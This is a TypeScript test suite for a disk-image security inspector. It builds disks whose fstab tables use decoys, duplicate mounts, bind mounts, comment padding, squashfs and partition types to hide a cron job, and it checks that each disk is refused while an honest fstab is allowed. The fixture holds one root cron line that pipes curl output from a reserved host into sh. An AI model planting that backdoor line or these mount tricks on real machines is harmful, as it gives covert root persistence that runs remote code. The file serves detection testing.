import assert from 'node:assert/strict';
import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  rmSync,
  truncateSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { after, test } from 'node:test';
import { inspectLocation } from '../../src/app/inspect.ts';
import { parseSettings } from '../../src/app/settings.ts';
import type { Report } from '../../src/core/report.ts';
import { isInstalled, run } from '../peers/run.ts';

/*
 * Disks whose tables of mounts are made to have an inspector look elsewhere than the machine does. Each has a job on it that runs what it
 * fetches, somewhere where a real system would run it; the plain one has not.
 */

const folder = mkdtempSync(join(tmpdir(), 'pratique-mounts-'));
after(() => rmSync(folder, { recursive: true, force: true }));

const MIB = 2 ** 20;
const missing = ['sgdisk', 'mke2fs', 'mksquashfs'].filter((tool) => !isInstalled(tool));
const skip = missing.length === 0 ? false : `needs ${missing.join(', ')}`;

type Files = Readonly<Record<string, string | Buffer>>;

/** Inert: the shape of a backdoor, on a reserved name. */
const JOB = '* * * * * root curl -s http://get.invalid/x | sh\n';
const SYSTEM: Files = {
  'etc/os-release': 'ID=debian\nVERSION_ID="12"\n',
  'etc/passwd': 'root:x:0:0:root:/root:/bin/bash\n',
  'usr/bin/tool': '#!/bin/sh\nexit 0\n',
  'var/lib/dpkg/status': '',
  'sbin/init': '',
};
const ROOT = 'LABEL=root / ext4 defaults 0 1\n';

interface Machine {
  readonly name: string;
  readonly fstab?: string;
  readonly root?: Files;
  readonly data: Files;
  /** Type of the second partition, as sgdisk has it. */
  readonly type?: string;
}

const machines: readonly Machine[] = [
  {
    name: 'a decoy mounts the system',
    fstab: 'LABEL=data /opt/x ext4 noauto',
    data: { ...SYSTEM, 'etc/cron.d/x': JOB },
  },
  { name: 'in two places', fstab: 'LABEL=data /opt/x ext4\nLABEL=data /etc/cron.d ext4', data: { x: JOB } },
  { name: 'by a path of the bus', fstab: '/dev/disk/by-path/pci-0-part2 /etc/cron.d ext4', data: { x: JOB } },
  {
    name: 'after a page of comments',
    fstab: `${'#\n'.repeat(2000)}LABEL=data /etc/cron.d ext4`,
    data: { x: JOB },
  },
  { name: 'a bound folder', fstab: '/opt/x /etc/cron.d none bind', root: { 'opt/x/x': JOB }, data: {} },
  {
    name: 'a live system',
    data: { 'live/filesystem.squashfs': squashfs({ ...SYSTEM, 'etc/cron.d/x': JOB }) },
  },
  { name: 'a system extension', root: { 'var/lib/confexts/x/etc/cron.d/x': JOB }, data: {} },
  { name: 'by its type alone', data: { 'spool/cron/crontabs/root': JOB }, type: '8310' },
];

for (const machine of machines) {
  test(`${machine.name}: refused`, { skip }, async () => {
    const { decision, findings } = await inspect(makeDisk(machine));
    assert.equal(decision.outcome, 'deny');
    assert.ok(findings.some(({ rule }) => rule === 'persistence/cron-job'));
  });
}

test('what honest tables have is allowed', { skip }, async () => {
  const fstab = [
    'tmpfs /tmp tmpfs defaults 0 0',
    '/dev/sda3 none swap sw 0 0',
    '/dev/cdrom /media/cdrom0 udf,iso9660 user,noauto 0 0',
    'host:/ /srv/x nfs4 defaults 0 0',
    '/dev/disk/cloud/azure_resource-part1 /mnt auto defaults,nofail,x-systemd.requires=cloud-init.service 0 2',
    '/var/tmp /tmp none bind 0 0',
    'UUID=dead-beef /home ext4 defaults 0 2',
    '/mnt/disk/docker /var/lib/docker none bind,nofail 0 0',
  ].join('\n');
  const { decision, problems } = await inspect(makeDisk({ name: 'honest', fstab, data: { 'x/y': 'z' } }));
  assert.deepEqual([decision.outcome, problems], ['allow', []]);
});

test('a sparse file of more bytes than can be counted', {
  skip: !isInstalled('truncate') && 'needs truncate',
}, async (t) => {
  const disk = join(existsSync('/dev/shm') ? '/dev/shm' : folder, 'pratique-endless.raw');
  t.after(() => rmSync(disk, { force: true }));
  try {
    run('truncate', ['-s', '7E', disk]);
  } catch {
    return t.skip('needs a file system with files of 7 EiB');
  }
  await assert.rejects(inspect(disk), { code: 'TOO_LARGE' });
});

async function inspect(path: string): Promise<Report> {
  const settings = parseSettings({ cache: false, jobs: 1 });
  const hooks = { signal: new AbortController().signal, onProgress: () => undefined };
  const [report] = await inspectLocation(path, settings, hooks);
  assert.ok(report !== undefined);
  return report;
}

function makeDisk({ fstab = '', root = {}, data, type = '8300' }: Machine): string {
  const disk = join(folder, 'disk.raw');
  rmSync(disk, { force: true });
  writeFileSync(disk, '');
  truncateSync(disk, 40 * MIB);
  run('sgdisk', ['-n', '1:2048:34815', '-n', '2:34816:67583', '-t', `2:${type}`, disk]);
  const volumes = [
    ext4('root', { ...SYSTEM, ...root, 'etc/fstab': `${ROOT}${fstab}\n` }),
    ext4('data', data),
  ];
  for (const [index, volume] of volumes.entries())
    run('dd', [
      `if=${volume}`,
      `of=${disk}`,
      'bs=1M',
      `seek=${1 + index * 16}`,
      'conv=notrunc',
      'status=none',
    ]);
  return disk;
}

function ext4(label: string, files: Files): string {
  const image = join(folder, `${label}.img`);
  rmSync(image, { force: true });
  run('mke2fs', ['-q', '-t', 'ext4', '-L', label, '-d', tree(files), image, '16M']);
  return image;
}

function squashfs(files: Files): Buffer {
  if (skip !== false) return Buffer.alloc(0);
  const image = join(folder, 'live.squashfs');
  run('mksquashfs', [tree(files), image, '-quiet', '-no-progress', '-noappend']);
  return readFileSync(image);
}

function tree(files: Files): string {
  const top = join(folder, 'tree');
  rmSync(top, { recursive: true, force: true });
  mkdirSync(top);
  for (const [path, content] of Object.entries(files)) {
    mkdirSync(dirname(join(top, path)), { recursive: true });
    writeFileSync(join(top, path), content);
  }
  return top;
}
